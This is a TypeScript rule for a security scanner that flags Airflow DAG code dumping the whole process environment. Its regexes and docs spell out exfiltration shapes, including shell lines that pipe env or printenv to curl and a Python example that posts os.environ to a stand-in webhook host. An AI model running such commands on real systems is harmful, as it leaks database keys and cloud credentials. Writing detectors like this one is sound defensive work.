import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import type { Severity } from '../../src/report';
import type { RuleContext } from '../../src/engine/context';
import { boundName, classify, enclosingCalls, factsOf } from './_facts';
import { offsets, stringsWithShape } from './_shell-shapes';
import { targetText } from './_write-target';

/** `env`/`printenv` piped or written, then a network client in the same command. */
const SHELL_ENV_EXFIL =
  /(?:^|[\s;&|(`'"])(?:env|printenv)\s*(?:\||>)[^\n]*?\b(?:curl|wget|nc|ncat|netcat|socat)\b|\b(?:curl|wget)\b[^\n]*?(?:\$\(|`)\s*(?:env|printenv)\b/;
const mayDumpEnvInShell = (text: string): boolean => /printenv|env\s*[|>)`]/.test(text);

type DumpKind = 'copy' | 'serialize' | 'iterate';
interface Dump {
  node: SyntaxNode;
  kind: DumpKind;
  parse: boolean;
  /** Where it goes when it visibly leaves the process: 'network', 'file', 'log'. */
  sink: string | null;
  bound: string | null;
  /** The function whose return value holds it (`return {"conns": {k: v for k, v in os.environ.items() …}}`). */
  returnedBy: string | null;
  /** The value of an `env`-named key (`{"env": dict(os.environ)}`): reported only when it visibly leaves the process. */
  handedOn: boolean;
}

const COPIERS = new Set(['dict', 'list', 'tuple', 'set', 'sorted', 'collections.OrderedDict']);
const SERIALIZERS = new Set(['json.dumps', 'json.dump', 'str', 'repr', 'pprint.pformat', 'pprint.pprint', 'yaml.dump', 'yaml.safe_dump', 'pickle.dumps', 'base64.b64encode']);
const ENV_METHODS: Record<string, DumpKind> = { copy: 'copy', items: 'iterate', keys: 'iterate', values: 'iterate' };
/** Text right after `environ`: a subscript, or a method (captured: only ENV_METHODS can dump). */
const ONE_VARIABLE = /^\s*(?:\[|\.\s*(\w+))/;

export default defineRule({
  meta: {
    id: 'DG606',
    name: 'environment-dump',
    category: 'malicious',
    severity: 'medium',
    message: 'dumps the whole process environment{where}',
    docs: {
      what:
        'Finds code that takes the whole of `os.environ` rather than one variable: `dict(os.environ)`, `os.environ.copy()`, `{**os.environ}`, `json.dumps(os.environ)`, `str(os.environ)`, f-string interpolation, iteration over `os.environ` / `.items()`; and shell commands that send it away (`env | curl --data-binary @- …`, `printenv > f && curl -F f=@f …`, `curl -d "$(env | base64)" …`: critical). Critical anywhere when the dump visibly goes to the network or a file (`requests.post(url, json=dict(os.environ))`, also through a variable); at parse time: high when the file also reaches the network at parse time, medium for serialization/iteration, low for a plain copy. Passing the environment on as `env=` (`BashOperator(env={**os.environ, ...})`, `subprocess.run(..., env=os.environ.copy())`) is not reported.',
      why:
        'The environment of the dag-processor holds `AIRFLOW__DATABASE__SQL_ALCHEMY_CONN`, `AIRFLOW__CORE__FERNET_KEY`, cloud credentials and every secret injected by the deployment. Collecting all of it is the first step of GuardDog\'s "exfiltrate-sensitive-data" pattern; in a DAG file it runs on every parse, before any task or review of task logs.',
      example: '```python\nimport json, os, requests\nrequests.post("https://hooks.example.net/c", data=json.dumps(dict(os.environ)))\n```',
      useInstead: '```python\nregion = os.environ.get("AWS_REGION", "eu-west-1")  # read the one variable you need\n```',
    },
  },
  // `os.environ` is found in the text and located in the tree: a tree-wide `(identifier)` query would cost more
  // than every other rule together.
  // 'env \\': `env \⏎ | curl …` continued over lines (see _shell-shapes.ts)
  keywords: ['environ', 'printenv', 'env |', 'env|', 'env >', 'env \\', '$(env', '`env'],
  onFile(ctx) {
    // a shell command that sends the environment away: `env | curl --data-binary @- …`, `printenv > f && curl -F f=@f …`
    stringsWithShape(ctx, mayDumpEnvInShell, SHELL_ENV_EXFIL, (s) =>
      ctx.report(s, { where: ' and sends it over the network (a shell command)' }, { severity: 'critical' }),
    );
    if (!ctx.file.text.includes('environ')) return;
    // `os.environ`, `environ`, and any other local name bound to it (`from os import environ as E`).
    const names = ['environ'];
    // Aliases are rare: read from the import lines of the text first, then confirmed with the real imports (which
    // need the tree) only when there is one.
    if (ctx.importAliasCandidates.some((r) => r.target === 'os.environ')) {
      for (const r of ctx.importList) if (r.target === 'os.environ' && r.local !== 'environ' && /^\w+$/.test(r.local)) names.push(r.local);
    }
    const re = names.length === 1 ? /\benviron\b/ : new RegExp(`\\b(?:${names.join('|')})\\b`);
    const text = ctx.file.text;
    const ends: number[] = [];
    offsets(re, text, 200, ends).forEach((i, k) => {
      // `os.environ["X"]`, `os.environ.get("X")`, `.setdefault(…)`: one variable, decided from the text alone.
      const next = ONE_VARIABLE.exec(text.slice(ends[k], ends[k] + 40));
      if (next && !(next[1] && next[1] in ENV_METHODS)) return;
      const id = ctx.root.descendantForIndex(i, ends[k]);
      if (id.type === 'identifier') collect(id, ctx);
    });
    report(ctx);
  },
});

function collect(id: SyntaxNode, ctx: RuleContext): void {
  let env: SyntaxNode = id;
  const p0 = id.parent;
  if (!p0 || p0.type === 'dotted_name' || p0.type === 'aliased_import') return;
  if (p0.type === 'attribute' && p0.childForFieldName('attribute')?.id === id.id) env = p0;
  if (ctx.qualifiedName(env) !== 'os.environ') return;

  let node: SyntaxNode | null = null;
  let kind: DumpKind = 'copy';
  const p = env.parent;
  if (!p) return;
  if (p.type === 'attribute' && p.childForFieldName('object')?.id === env.id) {
    const method = p.childForFieldName('attribute')?.text ?? '';
    const call = p.parent;
    if (!Object.hasOwn(ENV_METHODS, method) || !call || call.type !== 'call') return; // not `constructor`
    node = call;
    kind = ENV_METHODS[method];
  } else if (p.type === 'argument_list' && p.parent?.type === 'call') {
    const fn = ctx.callee(p.parent) ?? '';
    if (COPIERS.has(fn)) {
      node = p.parent;
      kind = 'copy';
    } else if (SERIALIZERS.has(fn)) {
      node = p.parent;
      kind = 'serialize';
    } else {
      node = env; // passed as such to some call: judged by the sink below
      kind = 'serialize';
    }
  } else if (p.type === 'dictionary_splat') {
    node = p.parent;
    kind = 'copy';
  } else if ((p.type === 'for_statement' || p.type === 'for_in_clause') && p.childForFieldName('right')?.id === env.id) {
    node = env;
    kind = 'iterate';
  } else if (p.type === 'interpolation') {
    node = env;
    kind = 'serialize';
  } else if (p.type === 'keyword_argument') {
    node = env;
    kind = 'serialize';
  } else return;
  if (!node) return;

  let sink: string | null = null;
  for (const call of enclosingCalls(node)) {
    const fact = classify(call, ctx);
    if (fact.fn && SERIALIZERS.has(fact.fn)) kind = 'serialize';
    const k = fact.kinds;
    if (k.has('network')) sink = 'network';
    else if (k.has('write') && !sink) sink = 'file';
    else if (k.has('log') && !sink) sink = 'log';
    if (sink === 'network') break;
  }
  // Handing the environment on to a child process or operator is what `env=` is for — unless what holds it is then
  // sent away (`return {"environment": dict(os.environ)}` from a helper whose result is posted): decided in report
  const parent = node.parent;
  let handedOn = false;
  if (sink !== 'network' && sink !== 'file') {
    if (parent?.type === 'keyword_argument' && /^(env|environment|env_vars)$/.test(parent.childForFieldName('name')?.text ?? '')) return;
    if (parent?.type === 'pair' && /env/i.test(parent.childForFieldName('key')?.text ?? '')) handedOn = true;
  }
  // `some_function(os.environ)` with no visible sink: not a dump.
  if (node === env && p.type === 'argument_list' && !sink) return;
  if (p.type === 'keyword_argument' && !sink) return;
  ctx.ruleState((): Dump[] => []).push({ node, kind, parse: ctx.isParseTime(node), sink, bound: boundName(node) ?? holderName(node), returnedBy: returningFunction(node), handedOn });
}

/** The name a dict or list literal holding `node` is bound to (`bundle = {"environment": dict(os.environ), …}`). */
function holderName(node: SyntaxNode): string | null {
  let n = node;
  while (n.parent && /^(pair|dictionary|list|tuple|parenthesized_expression)$/.test(n.parent.type)) n = n.parent;
  return n !== node ? boundName(n) : null;
}

/** The comprehension whose `for … in` clause iterates `node` (`{k: v for k, v in os.environ.items() if …}`). */
function comprehensionOf(node: SyntaxNode): SyntaxNode | null {
  const clause = node.parent?.type === 'for_in_clause' ? node.parent : null;
  return clause?.parent && /comprehension|generator_expression/.test(clause.parent.type) ? clause.parent : null;
}

function enclosingClass(node: SyntaxNode): SyntaxNode | null {
  for (let n: SyntaxNode | null = node.parent; n; n = n.parent) if (n.type === 'class_definition') return n;
  return null;
}

/** The name of the function that returns an expression containing `node` (not through a nested function or lambda). */
function returningFunction(node: SyntaxNode): string | null {
  let inReturn = false;
  for (let n: SyntaxNode | null = node.parent; n; n = n.parent) {
    if (n.type === 'return_statement') inReturn = true;
    else if (n.type === 'lambda' || n.type === 'class_definition' || n.type === 'module') return null;
    else if (n.type === 'function_definition') return inReturn ? (n.childForFieldName('name')?.text ?? null) : null;
  }
  return null;
}

/**
 * The names the file binds a helper's result to (`payload = _collect(…)`), and the helper's call itself: what a sink's
 * arguments must mention for the helper's returned dump to reach it.
 */
function helperResultNames(fn: string, text: string): RegExp {
  const names = [...text.matchAll(new RegExp(`^[ \\t]*([A-Za-z_]\\w*)[ \\t]*=[ \\t]*(?:self\\.)?${fn}[ \\t]*\\(`, 'gm'))].map((m) => m[1]);
  return new RegExp(`\\b(?:${fn}\\s*\\(${names.map((n) => `|${n}\\b`).join('')})`);
}

function report(ctx: RuleContext): void {
  const dumps = ctx.ruleState((): Dump[] => []);
  if (!dumps.length) return;
  const facts = factsOf(ctx);
  const parseNetwork = facts.calls.some((f) => f.kinds.has('network') && f.parseTime);
  for (const d of dumps) {
    let sink = d.sink;
    // reached through a name or a helper: reported where it leaves (the line to remove), saying where it was taken
    let at: SyntaxNode | null = null;
    if (!sink && (d.bound || d.returnedBy)) {
      // through the name it is bound to, or through the helper that returns it (`payload = _collect(…)` then
      // `requests.post(url, json=payload)`)
      const re = d.bound ? new RegExp(`\\b${d.bound}\\b`) : helperResultNames(d.returnedBy!, ctx.file.text);
      // … also one step further: the helper's result inside a payload built before the call (`payload = {"runtime":
      // _snapshot()}`; `requests.post(url, json=payload)`)
      const outbound = facts.calls.filter((f) => f.kinds.has('network') || f.kinds.has('write'));
      const used =
        outbound.find((f) => re.test(f.call.childForFieldName('arguments')?.text ?? '')) ??
        outbound.find((f) => re.test(targetText(f.call.childForFieldName('arguments') ?? f.call)));
      if (used) {
        sink = used.kinds.has('network') ? 'network' : 'file';
        at = used.call;
      }
    }
    if (!sink && !d.handedOn) {
      // kept on the object and sent by another method of the same class (a logging handler buffering records with
      // the environment, flushed over HTTP): the class's own network call is where it leaves
      const cls = enclosingClass(d.node);
      const sends = cls ? facts.calls.filter((f) => f.kinds.has('network') && f.call.startIndex >= cls.startIndex && f.call.endIndex <= cls.endIndex) : [];
      // the call that carries data (`conn.request("POST", path, body=…)`), rather than the connection's constructor
      const send = sends.find((f) => /\b(?:body|data|json|files)\s*=|\bself\./.test(f.call.childForFieldName('arguments')?.text ?? '')) ?? sends[0];
      // (not a copy made for a child process: `env = {…os.environ…}` handed on as `env=env`)
      const name = d.bound ?? boundName(comprehensionOf(d.node) ?? d.node);
      const handed = name !== null && new RegExp(`\\b(?:env|environment|env_vars)\\s*=\\s*(?:self\\.)?${name}\\b`).test(ctx.file.text);
      if (send && d.kind !== 'copy' && !handed) {
        sink = 'network';
        at = send.call;
      }
    }
    if (d.handedOn && sink !== 'network' && sink !== 'file') continue;
    let severity: Severity;
    let where = '';
    if (sink === 'network' || sink === 'file') {
      severity = 'critical';
      where = sink === 'network' ? ' and sends it over the network' : ' and writes it to a file';
    } else if (!d.parse) {
      continue;
    } else if (sink === 'log' || parseNetwork) {
      severity = 'high';
      where = sink === 'log' ? ' into the logs while the DAG file is parsed' : ' while the DAG file is parsed, in a file that also reaches the network at parse time';
    } else {
      severity = d.kind === 'copy' ? 'low' : 'medium';
      where = ' while the DAG file is parsed';
    }
    if (at) where += ` (the environment taken on line ${d.node.startPosition.row + 1})`;
    ctx.report(at ?? d.node, { where }, { severity });
  }
}
